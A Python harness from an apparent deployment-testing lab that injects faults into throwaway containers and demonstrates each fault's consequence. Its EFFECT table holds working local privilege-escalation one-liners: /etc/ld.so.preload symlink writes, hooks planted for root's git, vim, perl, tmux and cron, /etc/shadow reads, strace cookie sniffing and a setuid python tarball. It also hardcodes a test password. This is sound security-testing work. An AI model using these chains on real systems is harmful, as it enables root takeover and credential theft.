"""Show each blind10 fault's consequence on fresh containers of the campaign's snapshot: inject the fault exactly
as the campaign does, then run its effect: a shell as root in the container (``runuser`` to act as another
account), or from the runner: ``RUNNERPW:`` a login with the deploy login's password (paramiko), ``DEPLOY:`` a
deploy of another build with the pipeline, ``ROLLBACK:`` a rollback with the pipeline, ``PARALLEL:`` N logins at
once (paramiko), each followed by an optional shell in the container.

    python blind10/effects8.py PLATFORM ID-PREFIX [ID-PREFIX ...]
"""
import os
import sys
import threading
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

import paramiko

sys.path.insert(0, str(Path(__file__).parent))
from deploytests import pipeline
from deploytests.config import load_config
from deploytests.containers import Fleet
from deploytests.faults.catalogue import script
from deploytests.faults.run import Campaign
from deploytests.stacks import for_platform
from deploytests.suite.lab import APPS

from faults import ALLOWED, PLAIN

APP = APPS / "yourapplication"
camp = Campaign(APP, load_config(APP), faults=[], clean=0, progress=print, stack=for_platform(sys.argv[1]))
snap = {"tag": camp.snapshot()}
V = camp.values
H = "-H 'Host: localhost' http://127.0.0.1"
IP = "$(hostname -i | cut -d' ' -f1)"


def pth(tag: str) -> str:
    """The deploy login plants a .pth in its live release's venv that records who ran it."""
    return ("d=$(ls -d {root}/current/venv/lib/python*/site-packages); "
            f"printf 'import os; open(\"/tmp/{tag}-ran-as\", \"a\").write(str(os.getuid()) + \" \")\\n' > $d/zz-{tag}.pth; "
            f"chown {{login}} $d/zz-{tag}.pth; rm -f /tmp/{tag}-ran-as")


EFFECT = {
    "p01": "SHELL:" + f"curl -s -o /dev/null -H 'Cookie: session=VICTIM-SESSION-TOKEN' -H 'Authorization: Bearer VICTIM-API-TOKEN' {H}/; sleep 1; ls -l /var/log/apache2/forensic.log; echo 'in the forensic log:'; grep -o 'Cookie:[^|]*\\|Authorization:[^|]*' /var/log/apache2/forensic.log | head -2",
    "p02": "SHELL:" + "runuser -u dev -- git -C /home/dev/src/tool config core.fsmonitor 'id > /tmp/p02-ran-as; false'; cd /home/dev/src/tool && git status >/dev/null 2>&1; echo -n 'root git status in dev checkout ran its fsmonitor as: '; cat /tmp/p02-ran-as",
    "p03": "SHELL:" + "runuser -u devtools -- sh -c \"echo 'call system(\\\"id > /tmp/p03-ran-as\\\")' >> /opt/devtools/vim/team.vim\"; TERM=dumb script -qec \"vim -c 'qa!' /etc/hostname\" /dev/null >/dev/null 2>&1; echo -n 'root vim ran devtools vimscript as: '; cat /tmp/p03-ran-as",
    "p04": "SHELL:" + "runuser -u lesspipe -- sh -c \"printf '#!/bin/sh\\nid > /tmp/p04-ran-as\\ncat \\\"\\$1\\\"\\n' > /opt/lesspipe/lesspipe.sh\"; TERM=dumb script -qec \"bash -lc 'less -FX /etc/hostname'\" /dev/null >/dev/null 2>&1; echo -n 'root less ran lesspipe account filter as: '; cat /tmp/p04-ran-as",
    "p05": "SHELL:" + "d=$(perl -MConfig -e 'print $Config{{sitelib}}'); runuser -u dev -- sh -c \"printf 'package strict; system(\\\"id > /tmp/p05-ran-as\\\"); sub import {{}} sub unimport {{}} 1;\\n' > $d/strict.pm\"; perl -e 'use strict; 1'; echo -n 'root perl (use strict) ran dev module as: '; cat /tmp/p05-ran-as",
    "p06": "SHELL:" + "ls -l /etc/shadow; echo -n 'nagios reads: '; setpriv --reuid nagios --regid nagios --clear-groups head -c 20 /etc/shadow; echo",
    "p07": "SHELL:" + "echo -n 'bacula reads: '; setpriv --reuid bacula --regid bacula --init-groups head -c 20 /etc/shadow; echo",
    "p08": "SHELL:" + "runuser -u {app_user} -- sh -c 'rm -f {root}/shared/data/logs/access.log; ln -s /etc/ld.so.preload {root}/shared/data/logs/access.log'; apache2ctl stop; i=0; while pgrep -x apache2 >/dev/null && [ $i -lt 200 ]; do sleep 0.1; i=$((i+1)); done; apache2ctl start; sleep 2; " + f"curl -s -o /dev/null {H}/tmp/app-lib.so; sleep 1; " + "ls -l /etc/ld.so.preload; echo 'root wrote into /etc/ld.so.preload:'; cat /etc/ld.so.preload; echo 'every process now:'; /bin/true 2>&1 | head -1",
    "p09": "SHELL:" + "runuser -u monitoring -- sh -c \"printf '#!/bin/sh\\nid > /tmp/p09-ran-as\\n' > /opt/monitoring/bin/apt-updates-check\"; apt-get update -qq >/dev/null 2>&1; echo -n 'root apt-get update ran monitoring script as: '; cat /tmp/p09-ran-as",
    "p10": "SHELL:" + "runuser -u vendor -- sh -c \"printf '#!/bin/sh\\nid > /tmp/p10-ran-as\\n' > /opt/vendor/bin/startup.sh\"; /etc/rc.local; echo -n 'rc.local (as systemd runs it at boot) ran vendor script as: '; cat /tmp/p10-ran-as",
    "p11": "SHELL:" + "runuser -u reports -- sh -c \"printf '#!/bin/sh\\nid > /tmp/p11-ran-as\\n' > /opt/reports/bin/weekly.sh\"; anacron -f -n -d weekly-report >/dev/null 2>&1; echo -n 'anacron ran reports script as: '; cat /tmp/p11-ran-as",
    "p12": "SHELL:" + "runuser -u secops -- sh -c \"printf '#!/bin/sh\\nid > /tmp/p12-ran-as\\nexit 1\\n' > /opt/secops/bin/module-alert\"; modprobe dccp 2>/dev/null; echo -n 'modprobe dccp (what the kernel runs on a user socket(AF_INET,SOCK_DCCP)) ran secops script as: '; cat /tmp/p12-ran-as",
    "p13": "SHELL:" + "runuser -u ops -- sh -c \"printf '#!/bin/sh\\n/usr/bin/id > /tmp/p13-ran-as; exec /usr/bin/systemctl \\\"\\$@\\\"\\n' > /opt/ops/bin/systemctl; chmod 755 /opt/ops/bin/systemctl\"; su - root -c 'command -v systemctl; systemctl --version >/dev/null 2>&1'; echo -n 'su - root ran ops systemctl as: '; cat /tmp/p13-ran-as",
    "p14": "SHELL:" + "runuser -u ops -- sh -c \"printf '#!/bin/sh\\nid > /tmp/p14-ran-as\\n' > /opt/ops/tmux/status.sh\"; tmux new-session -d -s t1 'sleep 3'; sleep 2; tmux kill-server 2>/dev/null; echo -n 'root tmux ran ops script as: '; cat /tmp/p14-ran-as",
    "p15": "DEPLOY:" + f"curl -s -o /dev/null -w 'after the deploy GET /: %{{{{http_code}}}}\\n' {H}/",
    "p16": "DEPLOY:",
    "p17": "ROLLBACK:" + "runuser -u {app_user} -- sh -c 'f=$(readlink -f {root}/current)/venv/lib/python{python_version}/site-packages/{package}/__init__.py; echo \"# persisted by the app\" >> $f && echo app user rewrote its live code: $f'",
    "p18": "ROLLBACK:" + f"curl -s -o /dev/null -w 'after the rollback GET /: %{{{{http_code}}}}\\n' {H}/; sleep 1; " + "echo -n 'intruder code ran in the app as uid: '; cat /tmp/p18-ran-as",
    "p19": "SHELL:" + "curl -s -i -H 'Host: localhost' http://$(hostname -i | cut -d' ' -f1)/exports/users-2026-12-05.csv | grep -E 'HTTP/|@'",
    "p20": "SHELL:" + "runuser -u agent -- sh -c \"echo 'import os; open(\\\"/tmp/p20-ran-as\\\",\\\"w\\\").write(str(os.getuid())); from importlib import import_module' > /opt/agent/socket.py\"; pkill -f '^python3 /opt/agent/agent.py'; (cd / && setsid python3 /opt/agent/agent.py </dev/null >/dev/null 2>&1 &); sleep 2; echo -n 'the restarted root agent imported agent account socket.py as uid: '; cat /tmp/p20-ran-as",
    "p21": "SHELL:" + "runuser -u audit -- sh -c \"echo 'id > /tmp/p21-ran-as' >> /opt/audit/logout.sh\"; TERM=dumb script -qec 'bash -l -i -c exit' /dev/null >/dev/null 2>&1; TERM=dumb script -qec 'su - root' /dev/null </dev/null >/dev/null 2>&1; echo -n 'root login shell exit ran audit file as: '; cat /tmp/p21-ran-as",
    "k01": "SHELL:" + "runuser -u statsd -- sh -c \"printf '#!/bin/sh\\nid > /tmp/k01-ran-as\\n' > /opt/statsd/bin/statsd\"; pkill -f '^/usr/bin/python3 /opt/statsd/bin/statsd'; (cd / && setsid /opt/statsd/bin/statsd </dev/null >/dev/null 2>&1 &); sleep 1; echo -n 'the restarted root listener ran statsd account code as: '; cat /tmp/k01-ran-as",
    "k02": "SHELL:" + "runuser -u {app_user} -- sh -c \"mkdir -p {root}/shared/data/json; echo 'import os; open(\\\"/tmp/k02-ran-as\\\",\\\"w\\\").write(str(os.getuid()))' > {root}/shared/data/json/__init__.py; touch {root}/shared/data/json/tool.py\"; sh -c \"$(sed -n 's/^15 \\* \\* \\* \\* root //p' /etc/cron.d/app-stats)\" 2>/dev/null; echo -n 'root cron job imported the app json package as uid: '; cat /tmp/k02-ran-as",
    "k03": "SHELL:" + "runuser -u {app_user} -- sh -c \"echo 'id > /tmp/k03-ran-as' >> {root}/shared/data/maintenance.env\"; runuser -u oncall -- sudo -n /usr/local/sbin/app-maintenance; echo -n 'on-call sudo ran the app line as: '; cat /tmp/k03-ran-as",
    "k04": "SHELL:" + "p=$(pgrep -u {app_user} | head -1); echo \"daemon pid $p $(grep Groups /proc/$p/status)\"; setpriv --reuid {app_user} --regid {app_group} --init-groups head -c 20 /etc/shadow; echo",
    "k05": "SHELL:" + "runuser -u tools -- sh -c 'rm -f /var/log/tools/error.log; ln -s /etc/ld.so.preload /var/log/tools/error.log'; apache2ctl stop; i=0; while pgrep -x apache2 >/dev/null && [ $i -lt 200 ]; do sleep 0.1; i=$((i+1)); done; apache2ctl start; sleep 2; ls -l /etc/ld.so.preload; echo 'root Apache created /etc/ld.so.preload through the tools account link (root:root):'; stat -c '%U %a %n' /etc/ld.so.preload",
    "k06": "SHELL:" + "runuser -u appdynamics -- sh -c 'printf \"ErrorLog \\\"|/bin/sh -c \\\\\\\"id > /tmp/k06-ran-as; cat >/dev/null\\\\\\\"\\\"\\n\" > /opt/appdynamics/apache/agent.conf'; cat /opt/appdynamics/apache/agent.conf; apache2ctl graceful; sleep 3; echo -n 'Apache root parent ran appdynamics piped log as: '; cat /tmp/k06-ran-as",
    "k07": "SHELL:" + "p=$(pgrep -u {app_user} | head -1); echo \"app daemon pid $p\"; (runuser -u nobody -- timeout 6 strace -f -p $p -e trace=read,recvfrom,recvmsg -s 400 2>&1 | grep -o -m1 'session=[A-Z-]*' > /tmp/k07-seen &); sleep 2; " + f"curl -s -o /dev/null -H 'Cookie: session=VICTIM-SESSION' {H}/; sleep 5; " + "echo -n 'nobody, through strace, read from the app daemon: '; cat /tmp/k07-seen; p0=$(pgrep -o -x apache2); echo -n 'and attaches to root Apache parent: '; runuser -u nobody -- timeout 2 strace -p $p0 -e trace=none 2>&1 | head -1",
    "k08": "SHELL:" + "runuser -u build -- sh -c \"printf '#!/bin/sh\\nid > /tmp/k08-ran-as\\n' > /opt/openssl-3.3/bin/openssl\"; env -i PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin openssl version; echo -n 'root openssl ran build binary as: '; cat /tmp/k08-ran-as",
    "k09": "SHELL:" + "runuser -u {app_user} -- ln -sf /etc/ld.so.preload {root}/shared/data/reports/report.log; /usr/bin/du -sh /var/www >> {root}/shared/data/reports/report.log; echo 'as systemd opens StandardOutput=append: (O_APPEND|O_CREAT, links followed), root wrote:'; ls -l /etc/ld.so.preload; cat /etc/ld.so.preload",
    "k10": "SHELL:" + "runuser -u {app_user} -- sh -c 'cd /tmp && mkdir -p k10 && cp /usr/bin/python3 k10/py && chmod 4755 k10/py && tar --owner=0 --group=0 -czf {root}/shared/data/import/latest.tgz -C k10 py'; sh -c \"$(sed -n 's@^\\*/10 \\* \\* \\* \\* root @@p' /etc/cron.d/app-import)\"; ls -l /srv/import/py; runuser -u {app_user} -- /srv/import/py -c \"import os; os.setuid(0); print('the app user is root:', os.getuid())\"",
}
FAULTS = {f.id.split("-")[0]: f for f in PLAIN + ALLOWED}


def shell(container, cmd):
    res = container.exec_run(["sh", "-c", cmd.format(**V)], user="root")
    return f"rc={res.exit_code}:\n{res.output.decode(errors='replace').strip()[-1500:]}"


def login(server, **kw):
    c = paramiko.SSHClient()
    c.set_missing_host_key_policy(paramiko.AutoAddPolicy())  # a throwaway container of our own, on 127.0.0.1
    c.connect(server.host, server.port, username=server.user, allow_agent=False, look_for_keys=False, timeout=15,
              banner_timeout=15, auth_timeout=15, **kw)
    return c


def one(fid, server, container):
    f = FAULTS[fid]
    out = [f"##### {f.id}: {f.what}"]
    res = container.exec_run(script(f, V), user="root")
    out.append(f"inject rc={res.exit_code} {res.output.decode(errors='replace').strip()[-300:]}")
    kind, _, rest = EFFECT[fid].partition(":")
    try:
        if kind == "SHELL":
            out.append("effect " + shell(container, rest))
            if fid == "h01":
                import urllib.request
                op = urllib.request.build_opener(urllib.request.ProxyHandler({"http": server.base_url}))
                try:
                    body = op.open("http://127.0.0.1:8099/secret.txt", timeout=10).read().decode(errors="replace")
                    out.append(f"runner, the server as its proxy, GET http://127.0.0.1:8099/secret.txt (the server's loopback): {body.strip()!r}")
                except Exception as exc:  # noqa: BLE001
                    out.append(f"runner through the proxy: {exc}")
        elif kind == "RUNNERPW":
            c = login(server, password="Welcome2026")
            _, o, e = c.exec_command(rest, timeout=20)
            out.append(f"password login as {server.user}: {o.read().decode().strip()} {e.read().decode().strip()}")
            c.close()
        elif kind == "PARALLEL":
            n, ok, errs = int(rest), [], []

            def try_one(i):
                try:
                    c = login(server, key_filename=str(fleet_key["path"]))
                    _, o, _ = c.exec_command("true; echo ok", timeout=20)
                    ok.append(o.read().decode().strip())
                    c.close()
                except Exception as exc:  # noqa: BLE001
                    errs.append(f"{type(exc).__name__}: {exc}")
            ts = [threading.Thread(target=try_one, args=(i,)) for i in range(n)]
            [t.start() for t in ts]
            [t.join() for t in ts]
            out.append(f"{n} logins at once from the runner: {len(ok)} ok, {len(errs)} failed: {errs[:3]}")
        elif kind in ("DEPLOY", "ROLLBACK"):
            try:
                if kind == "DEPLOY":
                    r = pipeline.deploy(server.connection(), camp.cfg, camp.variant(7))
                    out.append(f"deploy of another build: ok, live {r.release_id}")
                else:
                    r = pipeline.rollback(server.connection(), camp.cfg)
                    out.append(f"rollback: ok {r}")
            except Exception as exc:  # noqa: BLE001 - the consequence
                out.append(f"{kind.lower()} FAILED: {type(exc).__name__}: {str(exc)[:700]}")
            if rest:
                out.append("then " + shell(container, rest))
    except Exception as exc:  # noqa: BLE001
        out.append(f"effect error: {type(exc).__name__}: {exc}")
    return "\n".join(out)


fleet_key: dict = {}
ids = [i for a in sys.argv[2:] for i in FAULTS if i.startswith(a)]
try:
    size = int(os.environ.get('FX_BATCH', '4'))
    for n in range(0, len(ids), size):
        chunk = ids[n:n + size]
        with Fleet(count=len(chunk), name_prefix="blind10fx", image_tag=snap["tag"], progress=lambda m: None) as fleet:
            fleet_key["path"] = fleet.key.path
            with ThreadPoolExecutor(max_workers=4) as pool:
                for text in pool.map(one, chunk, fleet.servers, fleet.containers):
                    print(text, flush=True)
finally:
    camp.remove_image()
